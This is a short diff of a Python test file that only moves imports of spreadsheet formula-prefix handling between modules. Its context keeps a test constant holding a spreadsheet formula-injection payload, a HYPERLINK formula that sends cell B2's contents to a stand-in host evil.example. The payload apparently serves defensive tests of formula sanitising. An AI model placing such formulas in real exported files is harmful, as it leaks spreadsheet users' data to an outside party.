@@ -10,7 +10,8 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from xiuhua.domain.errors import InvalidInput
-from xiuhua.services.tabular import FORMULA_PREFIXES, append_row, read_xlsx, xlsx_rows
+from xiuhua.reports.common import FORMULA_PREFIXES, append_row
+from xiuhua.services.tabular import read_xlsx, xlsx_rows
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
 
